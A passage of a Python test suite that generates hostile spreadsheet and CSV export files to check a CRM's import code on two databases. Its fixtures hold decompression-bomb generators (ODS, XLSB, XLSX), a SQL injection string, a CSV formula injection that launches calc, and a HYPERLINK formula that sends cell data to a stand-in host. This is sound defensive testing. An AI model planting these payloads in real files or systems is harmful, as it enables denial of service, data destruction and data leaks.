"""A battery of bad and hostile export files, each imported through the real import on SQLite and on PostgreSQL.

Every file gets either one clear line refusing it (and a refused file changes nothing: every table's checksum
is the same before and after) or its rows imported with the bad ones rejected by line number and reason; the
two databases give the same outcome and store the same data; no order file leaves a buyer or customer without
an order (rejected rows bring in nothing); and the command line imports them all with one line per refused
file and no traceback. The files are made here, from the table CASES: adding a case is one line there.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from bot.settings import WorkspaceSettings
from crm.importing.errors import ImportFileError
from crm.importing.service import import_file
from storage.db import Database, create_engine
from storage.models import (
    Base,
    BehaviourEvent,
    BuyerIdentity,
    Customer,
    ImportLog,
    ImportRejection,
    Interaction,
    Order,
    OrderLine,
    Product,
    Tag,
    Workspace,
)
from tests.conftest import pg_url_for, skip_without_postgres

REPO = Path(__file__).resolve().parents[1]
WS = WorkspaceSettings(fx_rates={"USD": 1.34, "MYR": 0.3, "GBP": 1.7})

# ---------------------------------------------------------------- the files
SHOPIFY = [
    "Name",
    "Email",
    "Financial Status",
    "Paid at",
    "Fulfillment Status",
    "Accepts Marketing",
    "Currency",
    "Total",
    "Created at",
    "Lineitem quantity",
    "Lineitem name",
    "Lineitem price",
    "Lineitem sku",
    "Billing Name",
    "Billing Phone",
    "Shipping Country",
    "Cancelled at",
]


def order(n: object, **cells: str) -> dict[str, str]:
    """The first row of a good one-line Shopify order #n (buyer n), with `cells` (by header, _ for a space)
    changed."""
    row = {
        "Name": f"#{n}",
        "Email": f"buyer{n}@example.com",
        "Financial Status": "paid",
        "Fulfillment Status": "fulfilled",
        "Accepts Marketing": "yes",
        "Currency": "SGD",
        "Total": "10.00",
        "Created at": "2026-03-01 10:00:00 +0800",
        "Lineitem quantity": "1",
        "Lineitem name": "Serum",
        "Lineitem price": "10.00",
        "Lineitem sku": "SER",
        "Billing Name": f"Buyer {n}",
        "Shipping Country": "SG",
    }
    row.update({k.replace("_", " "): v for k, v in cells.items()})
    return row


def more(n: object, **cells: str) -> dict[str, str]:
    """A further line of order #n (Shopify leaves the order's own columns blank there)."""
    row = {
        "Name": f"#{n}",
        "Email": f"buyer{n}@example.com",
        "Lineitem quantity": "1",
        "Lineitem name": "Toner",
        "Lineitem price": "5.00",
        "Lineitem sku": "TON",
    }
    row.update({k.replace("_", " "): v for k, v in cells.items()})
    return row


def table(header: list[str], rows: list[dict[str, str]] | list[list[object]], delimiter: str = ",") -> bytes:
    out = io.StringIO()
    w = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    for r in rows:
        w.writerow([r.get(h, "") for h in header] if isinstance(r, dict) else r)
    return out.getvalue().encode("utf-8")


def shopify(*rows: dict[str, str], header: list[str] = SHOPIFY) -> bytes:
    """A Shopify orders export: two good orders (lines 2 and 3), then `rows` (from line 4)."""
    return table(header, [order(1), order(2), *rows])


def xlsx(header: list[str], rows: list[list[object]], sheet: str = "sheet1") -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    ws.append(header)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


ODS_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"'
)
# What LibreOffice writes after the data: empty rows and cells repeated to the sheet's last row and column.
ODS_EMPTY_TAIL = (
    '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated='
    '"1024"/></table:table-row><table:table-row><table:table-cell table:number-columns-repeated="1024"/>'
    "</table:table-row>"
)


def ods(header: list[str], rows: list[dict[str, str]], tail: str = "") -> bytes:
    """An OpenDocument spreadsheet of text cells (`rows` by header), then the raw row XML `tail`."""
    from xml.sax.saxutils import escape

    def cell(value: str) -> str:
        if not value:
            return "<table:table-cell/>"
        return f'<table:table-cell office:value-type="string"><text:p>{escape(value)}</text:p></table:table-cell>'

    lines = [header, *([r.get(h, "") for h in header] for r in rows)]
    body = "".join(
        "<table:table-row>" + "".join(cell(v) for v in line) + "</table:table-row>" for line in lines
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NAMESPACES}><office:body>'
        f'<office:spreadsheet><table:table table:name="Sheet1">{body}{tail}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
            'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>',
        )
        archive.writestr("content.xml", content)
    return out.getvalue()


def ods_bomb() -> bytes:
    """The issue's ODS: under a kilobyte whose one row of one 100-character cell is repeated 20,000 times down
    and 1,000 across (2 GB of text once expanded; python-calamine aborted at 2.4 GB)."""
    cell = (
        '<table:table-cell table:number-columns-repeated="1000" office:value-type="string"><text:p>'
        + "x" * 100
        + "</text:p></table:table-cell>"
    )
    return ods(SHOPIFY, [], f'<table:table-row table:number-rows-repeated="20000">{cell}</table:table-row>')


def _biff12(kind: int, payload: bytes = b"") -> bytes:
    """One BIFF12 record (MS-XLSB 2.1.4): its type and size as 7-bit groups, low first, then its payload."""

    def groups(n: int, most: int) -> bytes:
        out = bytearray()
        for _ in range(most):
            out.append((n & 0x7F) | (0x80 if n >> 7 else 0))
            n >>= 7
            if not n:
                break
        return bytes(out)

    return groups(kind, 2) + groups(len(payload), 4) + payload


def _wide(text: str) -> bytes:
    """An XLWideString: its length in UTF-16 units, then UTF-16 LE."""
    data = text.encode("utf-16-le")
    return (len(data) // 2).to_bytes(4, "little") + data


def xlsb(header: list[str], rows: list[dict[str, str]], shared: str | None = None, refs: int = 0) -> bytes:
    """An Excel binary workbook (XLSB: a zip of BIFF12 records) of text cells (`rows` by header); with `shared`,
    `refs` more rows after them whose one cell refers to that shared string, and nothing else (a few bytes
    each, which python-calamine copies into every cell it reads)."""
    struct_u32 = lambda n: n.to_bytes(4, "little")  # noqa: E731
    cells = bytearray()
    lines = [header, *([r.get(h, "") for h in header] for r in rows)]
    for row_no, line in enumerate(lines):
        cells += _biff12(0x00, struct_u32(row_no) + bytes(13))  # BrtRowHdr
        for col, value in enumerate(line):
            if value:
                cells += _biff12(0x06, struct_u32(col) + struct_u32(0) + _wide(value))  # BrtCellSt
    if shared is not None:
        memo = header.index("Note") if "Note" in header else len(header) - 1
        for row_no in range(len(lines), len(lines) + refs):
            cells += _biff12(0x00, struct_u32(row_no) + bytes(13))
            cells += _biff12(0x07, struct_u32(memo) + struct_u32(0) + struct_u32(0))  # BrtCellIsst
    last_row = len(lines) + refs - 1
    sheet = (
        _biff12(0x81)  # BrtBeginSheet
        + _biff12(0x94, struct_u32(0) + struct_u32(last_row) + struct_u32(0) + struct_u32(len(header) - 1))
        + _biff12(0x91)  # BrtBeginSheetData
        + bytes(cells)
        + _biff12(0x92)  # BrtEndSheetData
        + _biff12(0x82)  # BrtEndSheet
    )
    workbook = (
        _biff12(0x83)  # BrtBeginBook
        + _biff12(0x8F)  # BrtBeginBundleShs
        + _biff12(0x9C, struct_u32(0) + struct_u32(1) + _wide("rId1") + _wide("Sheet1"))  # BrtBundleSh
        + _biff12(0x90)  # BrtEndBundleShs
        + _biff12(0x9D, bytes(26))  # BrtCalcProp
        + _biff12(0x84)  # BrtEndBook
    )
    strings = [shared] if shared is not None else []
    sst = _biff12(0x9F, struct_u32(refs) + struct_u32(len(strings)))  # BrtBeginSst
    sst += b"".join(_biff12(0x13, b"\x00" + _wide(s)) for s in strings) + _biff12(
        0xA0
    )  # BrtSSTItem, BrtEndSst
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/worksheet" Target="worksheets/sheet1.bin"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.'
            'macroEnabled.main"/></Types>',
        )
        archive.writestr("xl/workbook.bin", workbook)
        archive.writestr("xl/_rels/workbook.bin.rels", rels)
        archive.writestr("xl/worksheets/sheet1.bin", sheet)
        archive.writestr("xl/sharedStrings.bin", sst)
    return out.getvalue()


def xlsb_shared_string_bomb(refs: int = 60_000) -> bytes:
    """The README's gap: an XLSB of one good order, then `refs` rows whose one cell refers to a single
    32,000-character shared string. About 20 bytes a row packed; python-calamine copies the string into each
    cell it reads: 60,000 rows are 60,000 x 32,000 UTF-8 bytes (1.9 GB), then as many Python strings."""
    return xlsb([*SHOPIFY, "Note"], [order(1)], shared="m" * 32_000, refs=refs)


def xlsx_bomb() -> bytes:
    """A small XLSX whose sheet unpacks to 30 MB of long inline strings (tests/test_import_limits.py)."""
    import tempfile

    from tests.test_import_limits import inline_bomb

    with tempfile.TemporaryDirectory() as folder:
        return inline_bomb(Path(folder) / "bomb.xlsx", 30).read_bytes()


LAZADA = [
    "orderItemId",
    "createTime",
    "orderNumber",
    "customerName",
    "customerEmail",
    "shippingName",
    "shippingCountry",
    "paidPrice",
    "unitPrice",
    "shippingFee",
    "itemName",
    "sellerSku",
    "status",
    "lazadaSku",
]


def lazada(when: object = "04 Jul 2026 11:46", **cells: object) -> bytes:
    good = [
        [
            1,
            "04 Jul 2026 11:46",
            9001,
            "alice",
            "",
            "Alice",
            "Singapore",
            20,
            20,
            0,
            "Serum",
            "SKN",
            "delivered",
            "",
        ]
    ]
    bad = [2, when, 9002, "bob", "", "Bob", "Singapore", 20, 20, 0, "Serum", "SKN", "delivered", ""]
    for k, v in cells.items():
        bad[LAZADA.index(k)] = v
    return xlsx(LAZADA, [*good, bad])


TIKTOK = [
    "Order ID",
    "Order Status",
    "Order Substatus",
    "Cancelation/Return Type",
    "SKU ID",
    "Seller SKU",
    "Product Name",
    "Quantity",
    "SKU Unit Original Price",
    "Order Amount",
    "Created Time",
    "Buyer Username",
    "Recipient",
    "Country",
]


def tiktok(**cells: str) -> bytes:
    def row(n: int) -> dict[str, str]:
        return {
            "Order ID": f"57700{n}\t",
            "Order Status": "Completed",
            "SKU ID": "1",
            "Seller SKU": "SER",
            "Product Name": "Serum",
            "Quantity": "1",
            "SKU Unit Original Price": "20.00",
            "Order Amount": "20.00",
            "Created Time": "01/03/2026 10:00:00\t",
            "Buyer Username": f"tt{n}",
            "Recipient": f"T {n}",
            "Country": "Malaysia",
        }

    bad = row(3)
    bad.update({k.replace("_", " "): v for k, v in cells.items()})
    return b"\xef\xbb\xbf" + table(TIKTOK, [row(1), row(2), bad])


AMAZON = [
    "order-id",
    "order-item-id",
    "purchase-date",
    "payments-date",
    "buyer-email",
    "buyer-name",
    "sku",
    "product-name",
    "quantity-purchased",
    "currency",
    "item-price",
    "ship-country",
    "sales-channel",
]


def amazon(*bad: dict[str, str]) -> bytes:
    """An Amazon order report: two good orders (lines 2 and 3), then a line of order 026-3 per `bad` (its
    cells changed), from line 4."""

    def row(n: int) -> dict[str, str]:
        return {
            "order-id": f"026-{n}",
            "order-item-id": f"{n}",
            "purchase-date": "2026-06-01T08:00:00+00:00",
            "payments-date": "2026-06-01T08:05:00+00:00",
            "buyer-email": f"a{n}@marketplace.amazon.co.uk",
            "buyer-name": "Ann",
            "sku": "SKN",
            "product-name": "Serum",
            "quantity-purchased": "1",
            "currency": "GBP",
            "item-price": "12.00",
            "ship-country": "GB",
            "sales-channel": "Amazon.co.uk",
        }

    return table(AMAZON, [row(1), row(2), *({**row(3), **cells} for cells in bad)], delimiter="\t")


CUSTOMERS = [
    "Customer ID",
    "First Name",
    "Last Name",
    "Email",
    "Accepts Email Marketing",
    "Phone",
    "Total Spent",
    "Total Orders",
    "Note",
    "Tags",
]


def customers(**cells: str) -> bytes:
    good = {
        "Customer ID": "'501",
        "First Name": "Mei",
        "Last Name": "Lin",
        "Email": "mei@example.com",
        "Accepts Email Marketing": "yes",
        "Total Spent": "10",
        "Total Orders": "1",
        "Tags": "vip",
    }
    odd = {
        **good,
        "Customer ID": "'502",
        "Email": "odd@example.com",
        **{k.replace("_", " "): v for k, v in cells.items()},
    }
    return table(CUSTOMERS, [good, odd])


def chats(**cells: str) -> bytes:
    header = ["platform", "buyer_key", "kind", "occurred_at", "rating", "body", "language"]
    good = {
        "platform": "shopify",
        "buyer_key": "buyer1@example.com",
        "kind": "chat",
        "occurred_at": "2026-03-06T10:00:00+08:00",
        "body": "Any blue?",
        "language": "en",
    }
    return table(header, [good, {**good, "occurred_at": "2026-03-07T10:00:00+08:00", **cells}])


def cut(content: bytes, keep: float) -> bytes:
    return content[: int(len(content) * keep)]


LONG = "A" * 300
HUGE = "Ω" * 100_000
BIDI = "\u202eevil\u202c Tan\u2066x\u2069"
EMOJI = "👩\u200d💻 Ana 🇸🇬 ❤️"
SQLISH = "Robert'); DROP TABLE orders;--"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Click")'
FAR = "9999-12-31 23:59:59 +0000"


@dataclass(frozen=True)
class Case:
    """A file and what importing it gives: refused with a line containing `refused`, or imported with the
    rows at `rejected` lines rejected (reason containing the text) and `orders` orders; `names` (buyer key ->
    stored name) and `products` (sku -> stored name) are checked on both databases."""

    name: str
    file: str
    content: bytes | Callable[[], bytes]
    refused: str = ""
    rejected: dict[int, str] = field(default_factory=dict)
    orders: int | None = None
    names: dict[str, str | None] = field(default_factory=dict)
    products: dict[str, str | None] = field(default_factory=dict)
    before: tuple[str, bytes] | None = None  # a file imported first (the orders chats refer to)
    store: str | None = None

    def data(self) -> bytes:
        return self.content() if callable(self.content) else self.content


CASES = [
    # Files that cannot be imported at all.
    Case("empty file", "orders_export.csv", b"", refused="empty"),
    Case("only a byte order mark", "orders_export.csv", b"\xef\xbb\xbf", refused="empty"),
    Case("only blank lines", "orders_export.csv", b"\r\n  \r\n\r\n", refused="empty"),
    Case("header only", "orders_export.csv", lambda: table(SHOPIFY, []), refused="no rows under it"),
    Case("one column, no delimiter", "orders_export.csv", b"hello\nworld\n", refused="no columns"),
    Case("binary junk named .csv", "orders_export.csv", bytes(range(256)) * 40, refused="not a CSV"),
    Case("binary junk without NUL", "orders_export.csv", bytes(range(1, 256)) * 40, refused="not text"),
    Case("unknown layout", "notes.csv", b"colour,size\nred,XL\n", refused="unknown file layout"),
    Case(
        "missing required column",
        "orders_export.csv",
        lambda: table([h for h in SHOPIFY if h != "Total"], [order(1)]),
        refused="'Total'",
    ),
    Case(
        "cut zip named .xlsx",
        "Order.all.xlsx",
        lambda: cut(xlsx(["Order ID"], [["1"]]), 0.5),
        refused="cannot open the spreadsheet",
    ),
    Case(
        "XLSX decompression bomb",
        "Order.all.xlsx",
        xlsx_bomb,
        refused="more than 100 times its packed size",
    ),
    Case(
        "ODS bomb: a cell repeated 20,000 rows down and 1,000 across",
        "orders_export.ods",
        ods_bomb,
        refused="expands to more than 1,000,000 cells with a value",
    ),
    Case(
        "XLSB bomb: 60,000 cells referring to one 32,000-character shared string",
        "orders_export.xlsb",
        xlsb_shared_string_bomb,
        refused="the workbook expands to more than 300 MB when read; save it as XLSX or CSV",
    ),
    Case(
        "ODS cell of 40,000 repeated spaces",
        "orders_export.ods",
        lambda: ods(
            SHOPIFY,
            [order(1)],
            '<table:table-row><table:table-cell><text:p>a<text:s text:c="40000"/>'
            "</text:p></table:table-cell></table:table-row>",
        ),
        refused="holds more than 32,767 characters",
    ),
    Case(
        "store name too long", "orders_export.csv", lambda: shopify(), store="S" * 300, refused="store name"
    ),
    Case(
        "store name with NUL only", "orders_export.csv", lambda: shopify(), store="\x00", refused="store name"
    ),
    # Cut short.
    Case(
        "cut in the middle of the last row",
        "orders_export.csv",
        lambda: shopify(order(3), more(3))[:-30],
        rejected={5: "cut short"},
        orders=2,
        names={"buyer3@example.com": None},
    ),
    Case(
        "cut inside a quoted cell",
        "orders_export.csv",
        lambda: shopify(order(3)) + b'#4,"buyer4@ex',
        rejected={5: "cut short"},
        orders=3,
    ),
    # Layout problems inside the rows.
    Case(
        "rows in another delimiter",
        "orders_export.csv",
        lambda: table(SHOPIFY, []) + b"#1;a@example.com;paid;;;;SGD;10\r\n",
        rejected={2: "not separated like the header"},
        orders=0,
    ),
    Case(
        "duplicated header: the first column wins",
        "orders_export.csv",
        lambda: table([*SHOPIFY, "Total"], [[*[order(1).get(h, "") for h in SHOPIFY], "999"]]),
        orders=1,
    ),
    Case(
        "a very long line of 10,000 cells",
        "orders_export.csv",
        lambda: table(
            [*SHOPIFY, *(f"x{i}" for i in range(10_000))],
            [[*[order(1).get(h, "") for h in SHOPIFY], *(["x" * 50] * 10_000)]],
        ),
        orders=1,
    ),
    Case(
        "duplicate order id with another total",
        "orders_export.csv",
        lambda: shopify(order(3), order(4), order(3, Total="99.00", Lineitem_price="99.00")),
        rejected={4: "different order totals"},
        orders=3,
    ),
    Case(
        "duplicate order id with another buyer",
        "orders_export.csv",
        lambda: shopify(order(3), order(3, Email="someone@example.com")),
        rejected={4: "different buyers"},
        orders=2,
        names={"buyer3@example.com": None},
    ),
    Case(
        "the same order twice, identical", "orders_export.csv", lambda: shopify(order(3), order(3)), orders=3
    ),
    # Hostile text.
    Case(
        "NUL byte in a name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name="Ann\x00Lee")),
        orders=3,
        names={"buyer3@example.com": "AnnLee"},
    ),
    Case("NUL byte in an order id", "orders_export.csv", lambda: shopify(order("3\x00")), orders=3),
    Case(
        "NUL byte in a status",
        "orders_export.csv",
        lambda: shopify(order(3, Financial_Status="pa\x00id")),
        rejected={4: "unknown Financial Status"},
        orders=2,
    ),
    Case(
        "256+ character name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name=LONG)),
        orders=3,
        names={"buyer3@example.com": "A" * 199 + "…"},
    ),
    Case(
        "100,000 character name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name=HUGE)),
        orders=3,
        names={"buyer3@example.com": "Ω" * 199 + "…"},
    ),
    Case(
        "1,000,000 character product name",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_name="P" * 1_000_000, Lineitem_sku="BIG")),
        orders=3,
        products={"BIG": "P" * 499 + "…"},
    ),
    Case(
        "control characters in a name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name="\x1b[31mRed\x1b[0m\x07 Tan\r\nLee")),
        orders=3,
        names={"buyer3@example.com": "[31mRed[0m Tan  Lee"},
    ),
    Case(
        "bidi override characters in a name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name=BIDI)),
        orders=3,
        names={"buyer3@example.com": "evil Tanx"},
    ),
    Case(
        "emoji name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name=EMOJI)),
        orders=3,
        names={"buyer3@example.com": EMOJI},
    ),
    Case(
        "CJK, Thai and accented names",
        "orders_export.csv",
        lambda: shopify(
            order(3, Billing_Name="陈美玲"),
            order(4, Billing_Name="สมชาย ใจดี"),
            order(5, Billing_Name="Nguyễn Thị Hương"),
        ),
        orders=5,
        names={
            "buyer3@example.com": "陈美玲",
            "buyer4@example.com": "สมชาย ใจดี",
            "buyer5@example.com": "Nguyễn Thị Hương",
        },
    ),
    Case(
        "emoji cut at its name's cap",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name="x" * 197 + "👍🏽👍🏽")),
        orders=3,
        names={"buyer3@example.com": "x" * 197 + "👍🏽…"},
    ),
    Case(
        "SQL-looking name",
        "orders_export.csv",
        lambda: shopify(order(3, Billing_Name=SQLISH)),
        orders=3,
        names={"buyer3@example.com": SQLISH},
    ),
    Case(
        "formula-looking cells",
        "orders_export.csv",
        lambda: shopify(
            order(3, Billing_Name=FORMULA, Lineitem_name="+cmd|' /C calc'!A0", Lineitem_sku="@SUM")
        ),
        orders=3,
        names={"buyer3@example.com": FORMULA},
        products={"@SUM": "+cmd|' /C calc'!A0"},
    ),
    Case(
        "order id over 128 characters",
        "orders_export.csv",
        lambda: shopify(order("9" * 200)),
        rejected={4: "longer than 128"},
        orders=2,
    ),
    Case(
        "email (buyer id) over 255 characters",
        "orders_export.csv",
        lambda: shopify(order(3, Email="e" * 300 + "@example.com")),
        rejected={4: "longer than 255"},
        orders=2,
    ),
    Case(
        "SKU over 128 characters",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_sku="K" * 129)),
        rejected={4: "longer than 128"},
        orders=2,
    ),
    # Amounts and quantities.
    Case(
        "amount 1e308",
        "orders_export.csv",
        lambda: shopify(order(3, Total="1e308")),
        rejected={4: "out of range"},
        orders=2,
        names={"buyer3@example.com": None},
    ),
    Case(
        "amount 1e309 (beyond a float)",
        "orders_export.csv",
        lambda: shopify(order(3, Total="1e309")),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "60-digit amount",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_price="9" * 60)),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "order total just over the bound",
        "orders_export.csv",
        lambda: shopify(order(3, Total="1000000000000.00")),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "lines adding up beyond the bound",
        "amazon.txt",
        lambda: amazon({"item-price": "999999999999"}, {"item-price": "999999999999", "order-item-id": "4"}),
        rejected={4: "order value"},
        orders=2,
    ),
    Case(
        "negative item price",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_price="-5.00")),
        rejected={4: "negative item price"},
        orders=2,
    ),
    Case(
        "NaN amount",
        "orders_export.csv",
        lambda: shopify(order(3, Total="NaN")),
        rejected={4: "not an amount"},
        orders=2,
    ),
    Case(
        "infinite amount",
        "orders_export.csv",
        lambda: shopify(order(3, Total="-inf")),
        rejected={4: "not an amount"},
        orders=2,
    ),
    Case(
        "amount that is text",
        "orders_export.csv",
        lambda: shopify(order(3, Total="ten dollars")),
        rejected={4: "not an amount"},
        orders=2,
    ),
    Case(
        "quantity 99999999999999999999",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_quantity="99999999999999999999")),
        rejected={4: "quantity"},
        orders=2,
    ),
    Case(
        "quantity 1e400",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_quantity="1e400")),
        rejected={4: "not a quantity"},
        orders=2,
    ),
    Case(
        "negative quantity",
        "orders_export.csv",
        lambda: shopify(order(3, Lineitem_quantity="-2")),
        rejected={4: "negative quantity"},
        orders=2,
    ),
    Case(
        "ODS with LibreOffice's empty rows repeated to the last row",
        "orders_export.ods",
        lambda: ods(SHOPIFY, [order(1), order(2), order(3, Total="1e308")], ODS_EMPTY_TAIL),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "TikTok Shop order amount 1e308",
        "tiktok-orders.csv",
        lambda: tiktok(Order_Amount="1e308"),
        rejected={4: "Order Amount"},
        orders=2,
    ),
    # Dates.
    Case(
        "date 0001-01-01",
        "orders_export.csv",
        lambda: shopify(order(3, Created_at="0001-01-01 00:00:00 +1400")),
        rejected={4: "out of range"},
        orders=2,
        names={"buyer3@example.com": None},
    ),
    Case(
        "date 9999-12-31",
        "orders_export.csv",
        lambda: shopify(order(3, Created_at=FAR)),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "date in 1999",
        "orders_export.csv",
        lambda: shopify(order(3, Created_at="1999-12-31 10:00:00 +0000")),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "payment date in 9999",
        "orders_export.csv",
        lambda: shopify(order(3, Paid_at=FAR)),
        rejected={4: "payment date"},
        orders=2,
    ),
    Case(
        "impossible date",
        "orders_export.csv",
        lambda: shopify(order(3, Created_at="2026-02-30 10:00:00 +0800")),
        rejected={4: "not a date"},
        orders=2,
    ),
    Case(
        "empty date",
        "orders_export.csv",
        lambda: shopify(order(3, Created_at=""), more(3)),
        rejected={4: "no order date"},
        orders=2,
        names={"buyer3@example.com": None},
    ),
    Case(
        "Amazon date 0001-01-01",
        "amazon.txt",
        lambda: amazon({"purchase-date": "0001-01-01T00:00:00+00:00"}),
        rejected={4: "out of range"},
        orders=2,
    ),
    Case(
        "Lazada spreadsheet date 1e308",
        "lazada-orders.xlsx",
        lambda: lazada(when=1e308),
        rejected={3: "not a date"},
        orders=1,
    ),
    # Currencies.
    Case(
        "mixed currencies in one order",
        "orders_export.csv",
        lambda: shopify(order(3), order(3, Currency="USD")),
        rejected={5: "currency USD differs"},
        orders=2,
        names={"buyer3@example.com": None},
    ),
    Case(
        "unknown currency code",
        "orders_export.csv",
        lambda: shopify(order(3, Currency="XYZ")),
        rejected={4: "unknown currency code"},
        orders=2,
    ),
    Case(
        "currency code of 10,000 letters",
        "orders_export.csv",
        lambda: shopify(order(3, Currency="Q" * 10_000)),
        rejected={4: "unknown currency code"},
        orders=2,
    ),
    # Customers, chats.
    Case(
        "customers export with huge names and tags",
        "customers_export.csv",
        lambda: customers(First_Name="N" * 100_000, Tags="t" * 1000 + ",vip,\x00x"),
        orders=0,
        names={"id:502": "N" * 199 + "…"},
    ),
    Case(
        "customers export with an over-long Customer ID",
        "customers_export.csv",
        lambda: customers(Customer_ID="'" + "7" * 300),
        rejected={3: "longer than 255"},
    ),
    Case(
        "chat with a 100,000 character body and a far-future time",
        "interactions.csv",
        lambda: chats(body="b" * 100_000) + b"shopify,buyer1@example.com,chat,9999-01-01T00:00:00,,hi,en\r\n",
        before=("orders_export.csv", shopify()),
        rejected={4: "out of range"},
    ),
]


# ---------------------------------------------------------------- running them
# One database of each kind for the whole battery, each case in a workspace of its own: the engines (and the
# SQL they compiled) live across the cases; their connections are closed after each (each test has its loop).
_DATABASES: dict[str, Database] = {}


async def workspace_in(url: str, name: str) -> tuple[Database, int]:
    """The battery's database at `url`, with a new workspace `name`."""
    database = _DATABASES.get(url)
    if database is None:
        database = _DATABASES[url] = Database(create_engine(url))
    async with database.sessions() as s:
        ws = Workspace(name=name, base_currency="SGD", timezone="Asia/Singapore", settings={})
        s.add(ws)
        await s.commit()
        return database, ws.id


def plain(v: Any) -> Any:
    if isinstance(v, (Decimal, float)):
        return f"{float(v):.4f}"
    if isinstance(v, datetime):
        return v.isoformat()
    return v


async def checksum(database: Database) -> str:
    """Every table's rows, hashed; the month blocks only as cleared or not: they are a cache of order_products
    that any reader (the bot right after an import, in the background) may pack, which changes no data."""
    h = hashlib.sha256()
    async with database.sessions() as s:
        for t in Base.metadata.sorted_tables:
            read = select(t.c.workspace_id, t.c.month) if t.name == "product_blocks" else select(t)
            rows = sorted(repr(tuple(plain(v) for v in r)) for r in (await s.execute(read)).all())
            h.update(f"{t.name}:{rows}".encode())
    return h.hexdigest()


async def stored(database: Database, ws: int) -> dict[str, list[tuple[Any, ...]]]:
    """What an import stored in workspace `ws`, without ids and clock times: the same on both databases."""
    queries = {
        "orders": select(
            Order.platform_order_id,
            Order.status,
            Order.raw_status,
            Order.currency,
            Order.order_value,
            Order.value_base,
            Order.country,
            Order.created_at,
            Order.paid_at,
        ).where(Order.workspace_id == ws),
        "lines": select(
            Order.platform_order_id,
            OrderLine.line_no,
            OrderLine.sku,
            OrderLine.product_name,
            OrderLine.variation,
            OrderLine.quantity,
            OrderLine.unit_price,
            OrderLine.line_total,
        )
        .join(Order, Order.id == OrderLine.order_id)
        .where(Order.workspace_id == ws),
        "buyers": select(
            BuyerIdentity.platform,
            BuyerIdentity.buyer_key,
            BuyerIdentity.username,
            BuyerIdentity.name,
            BuyerIdentity.email,
            BuyerIdentity.email_norm,
            BuyerIdentity.phone,
            BuyerIdentity.country,
        ).where(BuyerIdentity.workspace_id == ws),
        "customers": select(Customer.display_name, Customer.country).where(Customer.workspace_id == ws),
        "products": select(Product.sku, Product.name).where(Product.workspace_id == ws),
        "tags": select(Tag.name).where(Tag.workspace_id == ws),
        "chats": select(
            Interaction.kind, Interaction.body, Interaction.language, Interaction.occurred_at
        ).where(Interaction.workspace_id == ws),
        "events": select(
            BehaviourEvent.kind, BehaviourEvent.sku, BehaviourEvent.value, BehaviourEvent.currency
        ).where(BehaviourEvent.workspace_id == ws),
        "rejections": select(ImportRejection.line_no, ImportRejection.order_ref, ImportRejection.reason)
        .join(ImportLog, ImportLog.id == ImportRejection.import_id)
        .where(ImportLog.workspace_id == ws),
    }
    async with database.sessions() as s:
        return {
            k: sorted((tuple(plain(v) for v in r) for r in (await s.execute(q)).all()), key=repr)
            for k, q in queries.items()
        }


async def run_case(case: Case, url: str, folder: Path) -> dict[str, Any]:
    """Import the case's file into a new workspace of the database at `url`; what came of it."""
    database, ws = await workspace_in(url, f"battery: {case.name}")
    try:
        if case.before:
            first = folder / case.before[0]
            first.write_bytes(case.before[1])
            await import_file(database, ws, first, settings=WS)
        elif case.refused:  # something to keep: a refused file must change none of it
            first = folder / "earlier_orders_export.csv"
            first.write_bytes(table(SHOPIFY, [order("e1"), order("e2")]))
            await import_file(database, ws, first, settings=WS)
        path = folder / case.file
        path.write_bytes(case.data())
        before = await checksum(database) if case.refused else None
        try:
